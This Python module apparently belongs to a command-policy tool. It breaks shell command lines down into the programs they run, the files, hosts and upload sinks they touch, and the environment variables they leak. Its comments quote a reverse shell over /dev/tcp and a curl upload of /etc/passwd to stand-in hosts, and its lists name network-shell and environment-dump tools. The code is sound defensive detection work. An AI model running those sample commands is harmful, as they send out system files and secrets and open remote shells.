"""What a command line runs and touches: each simple command as the shell runs it (`touches.programs`).

`_shell.simple_commands` splits a command line as the shell would (quotes, escapes, `$IFS`,
`bash -c` scripts, substitutions); here each simple command gives the program it runs (from its
basename on: `/usr/bin/whoami` is `whoami`), through `sudo` and the like to the command they
run, and what that program touches: files (`_calls_files`), hosts and sinks (`_calls_net`), and the
environment variables it prints or sends (`touches.env`, `*` for a whole dump).
"""

from __future__ import annotations

import re
from typing import Final

from mcpwall.policy._calls_args import ENV, HOSTS, KEY_COMMAND, PROGRAMS, SINKS, Fact
from mcpwall.policy._calls_files import basename, file_operands, redirections
from mcpwall.policy._calls_net import (
    DEV_TCP,
    HTTP,
    LOOKUP,
    REMOTE,
    SOCKET,
    destination,
    http_command,
    lookup_command,
    remote_command,
    socket_command,
    url_host,
)
from mcpwall.policy._shell import SHELLS, program_start, simple_commands

#: Programs that run their operands or input as code, or escalate: what follows is a command too.
_ESCALATE = frozenset({"sudo", "doas", "su", "pkexec", "runuser"})
#: Programs that print or send their operands: a `$VAR` among them leaves the machine's environment.
_PRINTS = (
    frozenset({"echo", "printf", "print", "cat", "curl", "wget", "nc", "ncat", "netcat", "http", "logger", "mail",
               "sendmail", "tee", "xargs"})
    | LOOKUP
)
#: Variables the shell keeps of itself, which say nothing of the user, the machine or a secret (`echo $PWD`, `$?`).
_SHELL_STATE: Final = frozenset(
    {"IFS", "PWD", "OLDPWD", "RANDOM", "SECONDS", "LINENO", "SHLVL", "BASH_VERSION", "ZSH_VERSION", "COLUMNS",
     "LINES", "EPOCHSECONDS", "EPOCHREALTIME", "PIPESTATUS", "OPTIND", "OPTARG", "REPLY", "BASH_SOURCE",
     "FUNCNAME", "BASH_LINENO", "SRANDOM"}
)
#: Options of an HTTP client whose value presents a credential to the server it calls (a header only when it
#: is `Authorization:`): the variable in it goes where the command sends its request, as intended.
_CREDENTIAL_OPTS: Final = frozenset({"-H", "--header", "--oauth2-bearer", "-u", "--user", "--http-password",
                                     "--password"})
_HTTP_CLIENTS: Final = frozenset({"curl", "wget", "http", "https", "xh"})
#: Programs that print the whole environment when run without operands.
_ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare", "typeset", "compgen", "get-childitem"})
#: The programs a command argument usually starts with: a text under any key that has shell syntax
#: (`;`, `|`, `&&`, `$(...)`, `>`) and starts with one of these is a command line.
KNOWN_PROGRAMS: Final = (
    frozenset({"awk", "base64", "basename", "bash", "bzip2", "cat", "cd", "chmod", "chown", "cp", "crontab", "curl",
     "cut", "date", "dd", "df", "diff", "dig", "dirname", "docker", "du", "echo", "env", "eval", "exec",
     "export", "find", "gawk", "git", "grep", "gzip", "head", "history", "host", "hostname", "id",
     "ifconfig", "ip", "kill", "kubectl", "less", "ln", "ls", "lsof", "make", "mkdir", "more", "mv", "nc",
     "ncat", "netcat", "netstat", "node", "npm", "npx", "nslookup", "openssl", "perl", "php", "ping", "pip",
     "pip3", "printenv", "printf", "ps", "pwd", "python", "python3", "rm", "ruby", "rsync", "scp", "sed",
     "sh", "sleep", "socat", "sort", "ss", "ssh", "stat", "sudo", "tail", "tar", "tee", "telnet", "touch",
     "tr", "uname", "uniq", "unzip", "wc", "wget", "whoami", "xargs", "xxd", "zip", "zsh", "doas", "su",
     "systemctl", "launchctl", "powershell", "pwsh", "cmd", "iwr", "irm", "invoke-webrequest",
     "invoke-restmethod", "certutil", "reg", "schtasks", "nmap", "at", "getent", "w", "who", "last",
     "groups", "users", "arp", "route"})
    | SHELLS
)
SHELL_SYNTAX: Final = re.compile(r"[;|&`<>\n]|\$[({A-Za-z_]")
_ENV_VAR = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?")


def _env_reads(program: str, args: list[str], out: list[Fact]) -> None:
    operands = [a for a in args if not a.startswith("-")]
    if program in _ENV_DUMPS and (not args or (program != "set" and not operands) or program == "printenv"):
        if program in ("export", "declare", "typeset") and not any(a in ("-p", "-x") for a in args) and args:
            return
        if program == "printenv" and operands:
            out.extend((ENV, name) for name in operands)
        else:
            out.append((ENV, "*"))
        return
    if program in _PRINTS:
        option = ""
        for word in args:
            if option:  # `-H "Authorization: Bearer $TOKEN"`: a credential shown to the service it is for
                header = option in ("-H", "--header")
                option = ""
                if not header or word.lower().startswith("authorization:"):
                    continue
            elif word in _CREDENTIAL_OPTS and program in _HTTP_CLIENTS:
                option = word
                continue
            for name in _ENV_VAR.findall(word):
                if name not in _SHELL_STATE:
                    out.append((ENV, name))


def _command_facts(words: list[str], out: list[Fact], depth: int = 0) -> None:
    for word in words:  # `bash -i >& /dev/tcp/h/4444`: a redirection to a socket
        for m in DEV_TCP.finditer(word):
            out.append((HOSTS, m.group(1).lower()))
            out.append((SINKS, f"socket {m.group(1).lower()}:{m.group(2)}"))
    words = redirections(words, out)
    start = program_start(words)
    if 0 < start < len(words) and depth < 4 and " " in words[start] and _split_string(words[start - 1]):
        # `env -S 'curl -d @/etc/passwd https://x'`: env splits the string into the command it runs
        for inner in simple_commands(words[start]):
            _command_facts(inner, out, depth + 1)
        return
    if start >= len(words):
        if words and basename(words[0]) == "env":  # `env`, `env -0`: the whole environment
            out.append((PROGRAMS, " ".join(["env", *words[1:]])))
            out.append((ENV, "*"))
        return
    program = basename(words[start])
    args = words[start + 1 :]
    out.append((PROGRAMS, " ".join([program, *args])))
    if program in _ESCALATE and depth < 4:
        j = 0
        while j < len(args) and args[j].startswith("-"):
            j += 2 if args[j] in ("-u", "-g", "-c", "-C", "-p", "-h", "-U") else 1
        if j < len(args):
            _command_facts(args[j:], out, depth + 1)
        return
    if program in HTTP:
        http_command(program, args, out)
    elif program in SOCKET:
        socket_command(program, args, out)
    elif program in REMOTE:
        remote_command(program, args, out)
    elif program in LOOKUP:
        lookup_command(args, out)
    elif program == "git":
        _git_push(args, {}, out)
    elif program not in SHELLS:
        file_operands(program, args, out)
    _env_reads(program, args, out)


def _split_string(option: str) -> bool:
    return option in ("-S", "--split-string") or option.startswith("--split-string=")


def _git_push(args: list[str], remotes: dict[str, str], out: list[Fact]) -> None:
    """A push to a URL (`git push https://x/y.git HEAD`) or to a remote the same line added uploads the
    repository to that host: an upload sink, as `scp` to it is; a push to a remote the repository already has
    (`git push origin main`) names no host here."""
    if not args or args[0] != "push":
        return
    operand = next((a for a in args[1:] if not a.startswith("-")), None)
    if operand is None:
        return
    target = remotes.get(operand) or destination(operand)
    if target is not None and ("://" in target or "@" in operand or ":" in operand):
        host = url_host(target)
        out.append((HOSTS, host))
        out.append((SINKS, f"upload {host}"))


def _git_remotes(commands: list[list[str]], out: list[Fact]) -> None:
    """`git remote add NAME URL && git push NAME`: the push goes to the URL the line named."""
    remotes: dict[str, str] = {}
    for words in commands:
        start = program_start(words)
        if start >= len(words) or basename(words[start]) != "git":
            continue
        args = words[start + 1 :]
        if len(args) >= 4 and args[0] == "remote" and args[1] in ("add", "set-url"):
            operands = [a for a in args[2:] if not a.startswith("-")]
            if len(operands) >= 2:
                remotes[operands[0]] = operands[1]
        elif remotes and args and args[0] == "push":
            _git_push(args, remotes, out)


#: Names a line gives a value itself (`V=...`, `export V=`, `read V`, `printf -v V`, `for V in`).
_ASSIGNED = re.compile(r"(?:^|[;&|(\s])(?:(?:export|declare|typeset|local|readonly)\s+(?:-\w+\s+)*)?"
                       r"([A-Za-z_][A-Za-z0-9_]*)\+?=|\bfor\s+([A-Za-z_][A-Za-z0-9_]*)\s+in\b"
                       r"|\bread\s+(?:-\S+\s+)*([A-Za-z_][A-Za-z0-9_]*)|\bprintf\s+-v\s+([A-Za-z_][A-Za-z0-9_]*)")


def _own_variables(text: str) -> set[str]:
    """The variables `text` assigns before it first reads them: `V=$(git describe); echo "$V"` prints the
    line's own value, not the environment (what the value is made of is read where it is: `_shell_expand`
    gives `K=$AWS_SECRET; echo $K` as `echo $AWS_SECRET`)."""
    own: set[str] = set()
    for m in _ASSIGNED.finditer(text):
        name = next(g for g in m.groups() if g)
        if name in own:
            continue
        use = min((i for i in (text.find("$" + name), text.find("${" + name)) if i >= 0), default=-1)
        if use < 0 or m.start() < use:
            own.add(name)
    return own


#: Programs that list every process or connection, and the filters that keep the lines naming one thing.
_LISTINGS = frozenset({"ps", "netstat", "ss", "lsof"})
_FILTERS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack"})


def command_facts(text: str) -> list[Fact]:
    """What the command line `text` runs and touches (each simple command, `sh -c` scripts included).

    A listing piped to a filter (`ps aux | grep node`, `ss -ltn | grep 3000`) is a developer looking for one
    process or port, not a survey of the machine: its program fact carries the filter (`ps aux | grep node`),
    which the reconnaissance rule's `[^|]*$` leaves alone."""
    out: list[Fact] = []
    commands = simple_commands(text)
    for i, words in enumerate(commands):
        start = len(out)
        _command_facts(words, out)
        if i + 1 < len(commands) and "|" in text and words and basename(words[0]) in _LISTINGS:
            then = commands[i + 1]
            if then and basename(then[0]) in _FILTERS and any(not w.startswith("-") for w in then[1:]):
                out[start:] = [(k, f"{t} | {' '.join(then)}") if k == PROGRAMS and t.split(" ", 1)[0] in _LISTINGS
                               else (k, t) for k, t in out[start:]]
    if len(commands) > 1 and "git" in text and "remote" in text:
        _git_remotes(commands, out)
    if "=" in text or "read" in text or "for" in text:
        own = _own_variables(text)
        if own:
            out = [f for f in out if f[0] != ENV or f[1] not in own]
    return out


def is_command(text: str, kind: int, loose: bool = False) -> bool:
    """Whether a text is a command line: under a command key, or with shell syntax (`loose`: or without)
    and starting with a known program."""
    if kind == KEY_COMMAND:
        return True
    if len(text) > 4096 or (not loose and SHELL_SYNTAX.search(text) is None):
        return False
    first = text.lstrip().split(None, 1)
    return bool(first) and basename(first[0].strip("\"'({")) in KNOWN_PROGRAMS


__all__ = ["KNOWN_PROGRAMS", "SHELL_SYNTAX", "command_facts", "is_command"]
